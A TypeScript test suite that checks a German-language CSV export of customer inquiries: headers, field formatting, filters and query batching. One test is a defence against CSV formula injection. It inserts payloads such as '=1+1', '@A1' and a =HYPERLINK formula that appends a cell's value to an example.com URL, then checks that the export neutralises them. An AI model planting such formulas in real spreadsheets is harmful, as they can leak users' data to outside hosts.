import { describe, expect, test } from 'vitest'
import type { CallInput } from '#contract/api/calls.ts'
import { foldForSearch } from '#server/platform/database/search-text.ts'
import { pdf } from '#tests/harness/files/sample-files.ts'
import { readCsv } from '#tests/harness/http/read-csv.ts'
import { priceInquiry, sendContact } from '#tests/harness/inquiries/contact.ts'
import { putInquiry } from '#tests/harness/inquiries/stored-inquiries.ts'
import { statementsDuring } from '#tests/harness/machine/count-statements.ts'
import { putMail } from '#tests/harness/mail/stored-mails.ts'
import { siteOfFile } from '#tests/harness/site/site-of-file.ts'
import { isOnPostgres } from '#tests/harness/site/test-databases.ts'

const { site, token } = await siteOfFile()

async function download(query: CallInput<'exportInquiries'>['query'] = {}) {
  const { status, headers, rawBody } = await site.request('exportInquiries', { query }, token)
  expect(status).toBe(200)
  return { headers, text: rawBody.toString('utf8') }
}

/** The rows below the head, each by the names in it. */
async function rowsOf(query?: CallInput<'exportInquiries'>['query']): Promise<Record<string, string>[]> {
  const [head = [], ...rows] = readCsv((await download(query)).text.replace('\ufeff', ''), ';')
  for (const row of rows) expect(row).toHaveLength(head.length)
  return rows.map((row) => Object.fromEntries(head.map((name, index) => [name, row[index] ?? ''])))
}

describe('the inquiries as a table', () => {
  test('are a file of that day that is not kept and not guessed at', async () => {
    const today = new Date().toLocaleDateString('sv-SE', { timeZone: 'Europe/Berlin' })
    const { headers, text } = await download()
    expect(headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': `attachment; filename="anfragen-${today}.csv"`,
      'cache-control': 'no-store',
      'x-content-type-options': 'nosniff',
    })
    expect(text.startsWith('\ufeffVorgangsnummer;Eingegangen;Betreff;Status;')).toBe(true)
    expect(text.endsWith('\r\n')).toBe(true)
  })

  test('have everything that is known of one, in German', async () => {
    const files = ['plan.pdf', 'Übersicht; alt.pdf'].map((name) => ({ name, content: pdf(name) }))
    const fields = { ...priceInquiry, message: 'Zeile 1\r\nZeile "2"; Ende' }
    const { reference = '' } = await sendContact(site, { fields, files })
    const { body } = await site.request('listInquiries', { query: { Search: reference } }, token)
    const id = body.data[0]?.id ?? 0
    await site.request('changeInquiry', { params: { id }, body: { state: 'inProgress' } }, token)
    for (const text of ['Rückruf', 'Termin am Dienstag']) {
      await site.request('addInquiryNote', { params: { id }, body: { text } }, token)
    }
    const { database } = site.services
    const row = { received_at: '2026-07-01T22:30:00.000Z', state_at: '2026-11-20T08:05:00.000Z' }
    await database
      .updateTable('inquiry')
      .set({ ...row, suspicion: 'tooFast' })
      .where('id', '=', id)
      .execute()
    await database.updateTable('inquiry_note').set({ at: row.state_at }).execute()
    await putMail(site, { inquiry_id: id, kind: 'toStaff', state: 'failed' })
    await putMail(site, { inquiry_id: id, kind: 'toSender', state: 'sent' })
    expect(await rowsOf({ Search: reference })).toEqual([
      {
        Vorgangsnummer: reference,
        Eingegangen: '2026-07-02 00:30',
        Betreff: 'Preisanfrage',
        Status: 'In Bearbeitung',
        'Status von': 'office',
        'Status seit': '2026-11-20 09:05',
        Zuständig: '',
        'Fällig am': '',
        'Erste Antwort': '',
        'Stunden bis zur ersten Antwort': '',
        Gelesen: 'ja',
        Spamverdacht: 'zu schnell ausgefüllt',
        Vorname: 'Ada',
        Nachname: 'Sturm',
        Telefon: "'+49 69 90009-123",
        'E-Mail': 'ada.sturm@example.com',
        Firmenname: 'Beispielwerk GmbH',
        Firmenanschrift: 'Hafenstraße 1, 63450 Hanau',
        Gebäudegröße: '4.200 m²',
        'Gewünschte Leistungen': 'Blitzschutzsystem, Erdungsanlage',
        Nachricht: 'Zeile 1\nZeile "2"; Ende',
        Eingangsweg: 'Formular',
        'Eingetragen von': '',
        Sprache: 'Deutsch',
        'Anzahl Dateien': '2',
        Dateien: 'plan.pdf\nÜbersicht; alt.pdf',
        Notizen: '2026-11-20 09:05 office: Rückruf\n2026-11-20 09:05 office: Termin am Dienstag',
        'E-Mail ans Büro': 'fehlgeschlagen, wird wiederholt',
        'Bestätigung per E-Mail': 'gesendet',
      },
    ])
  })

  test('are those that the filter finds, and a filter that is none is refused', async () => {
    const search = foldForSearch('Filterprobe')
    await putInquiry(site, { search, last_name: 'A', state: 'spam', subject: 'application' })
    await putInquiry(site, { search, last_name: 'B', read_at: '2026-11-20T09:00:00.000Z' })
    await putInquiry(site, { search, last_name: 'C', suspicion: 'trap' })
    const namesOf = async (query: CallInput<'exportInquiries'>['query']) =>
      (await rowsOf({ Search: 'filterprobe', ...query })).map((row) => row['Nachname'])
    expect(await namesOf({})).toEqual(['C', 'B', 'A'])
    expect(await namesOf({ State: 'spam' })).toEqual(['A'])
    expect(await namesOf({ Subject: 'generalMessage', Unread: 'yes' })).toEqual(['C'])
    expect(await namesOf({ Suspect: 'yes' })).toEqual(['C'])
    expect(await namesOf({ Mail: 'givenUp' })).toEqual([])
    const refused = await site.request('exportInquiries', { query: { PageLength: 1 } as object }, token)
    expect(refused.error?.code).toBe('invalid_input')
  })

  test('hold no formula of any author in any field', async () => {
    const formula = `=HYPERLINK("https://example.com/"&A1)`
    const texts = ['=1+1', '+1', '-1', '@A1', '\t=1', '\r=1', ' \n=1', '\u00a0=1', '＝1', formula]
    for (const text of texts) {
      const id = await putInquiry(site, {
        search: 'formelprobe',
        first_name: text,
        last_name: text,
        phone: text,
        email: text,
        message: text,
        company_name: text,
        company_address: text,
        building_size: text,
        state_by: text,
      })
      const { database } = site.services
      await database
        .insertInto('attachment')
        .values({ inquiry_id: id, n: 1, name: text, type: 'application/pdf', bytes: 1, file_key: 'none' })
        .execute()
    }
    const rows = await rowsOf({ Search: 'formelprobe' })
    expect(rows).toHaveLength(texts.length)
    for (const cell of rows.flatMap((row) => Object.values(row))) expect(cell).not.toMatch(/^\s*[=+\-@＝]/)
    expect(rows[0]).toMatchObject({ Nachricht: `'${formula}`, Dateien: `'${formula}` })
  })

  test.skipIf(isOnPostgres)('come in batches, each inquiry once, however many there are', async () => {
    const count = 450
    for (let n = 0; n < count; n++) await putInquiry(site, { search: 'stapelprobe', last_name: `Nr. ${n}` })
    let names: (string | undefined)[] = []
    const statements = await statementsDuring(async () => {
      names = (await rowsOf({ Search: 'stapelprobe' })).map((row) => row['Nachname'])
    })
    expect(names).toEqual(Array.from({ length: count }, (_, index) => `Nr. ${count - 1 - index}`))
    const ofInquiries = statements.filter(({ sql }) => /from "inquiry" /.test(sql))
    expect(ofInquiries.filter(({ sql }) => /"message"/.test(sql))).toHaveLength(9)
    expect(ofInquiries).toHaveLength(11)
    expect(statements.length).toBeLessThan(45)
  })
})
